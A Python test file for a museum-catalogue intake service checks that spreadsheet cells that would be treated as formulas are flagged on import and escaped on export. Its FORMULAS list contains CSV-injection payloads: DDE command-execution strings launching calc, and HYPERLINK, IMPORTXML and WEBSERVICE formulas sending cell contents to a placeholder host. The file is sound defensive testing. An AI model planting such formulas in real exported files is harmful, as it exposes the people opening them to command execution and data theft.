"""Cells that a spreadsheet would carry out: marked when read, harmless when written, the same text either way."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.files.description import Kind
from service.intake.delimited import calculates, guarded, unguarded
from service.intake.museum import import_museum, museum_columns
from service.intake.sheet import Options, read_sheet
from service.intake.writing import write_sheet

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ok")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋A1", "－A1", "＠SUM(A1)",
    '=IMPORTXML(CONCAT("http://x/", A1), "//a")', '=WEBSERVICE("http://x")', "'=1+1", '="x"&A1',
]  # fmt: skip
NUMBERS = [
    "-0206",
    "-0206-01-05",
    "+86 10",
    "-1",
    "- untitled -",
    "-",
    "+",
    "1=1",
    "a@b.cn",
    "'Tis",
    "瓶＝壶",
]
OPTIONS = Options(kind=Kind.CAPTURE_RECORD)


def lines(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


@pytest.mark.parametrize("text", [text for text in FORMULAS if not text.startswith("'")])
def test_a_text_that_calculates_is_kept_and_warned_of_with_its_cell(tmp_path: Path, text: str) -> None:
    path = tmp_path / "sheet.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["题名", "藏品编号", "采集者"], [text, "1", "示例"]])
    sheet = read_sheet(path, OPTIONS)
    assert ("A2", "formula-like") in [(one.cell, one.code) for one in sheet.check().warnings]
    (request,) = sheet.requests()
    assert request.description.get("title") == text


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_or_a_dash_is_not_warned_of(text: str) -> None:
    assert not calculates(text)


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
@pytest.mark.parametrize("text", [*FORMULAS, *NUMBERS])
def test_nothing_written_calculates_and_everything_is_read_back(
    tmp_path: Path, text: str, ending: str
) -> None:
    records, path = tmp_path / "records.jsonl", tmp_path / f"sheet{ending}"
    record = {"id": "cmoa:x/1", "title": text, "accession_number": "1", "credit_line": text, "extra": text}
    records.write_text(json.dumps(record) + "\n", encoding="utf-8")
    write_sheet(path, museum_columns(), import_museum(records))
    if ending == ".csv":
        assert not any(cell[:1] in tuple("=+-@＝＋－＠\t\r\n") for row in lines(path) for cell in row if cell)
    else:
        with zipfile.ZipFile(path) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        cells = [cell for row in openpyxl.load_workbook(path).active or () for cell in row]
        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    (request,) = read_sheet(path).requests()
    assert request.description.get("title") == request.description.get("credit_line") == text


@given(st.text())
def test_a_guarded_text_never_calculates_and_comes_back(text: str) -> None:
    assert not calculates(guarded(text)) or text[:1].isspace()
    assert guarded(text)[:1] not in tuple("=+-@＝＋－＠\t\r\n")
    assert unguarded(guarded(text)) == text
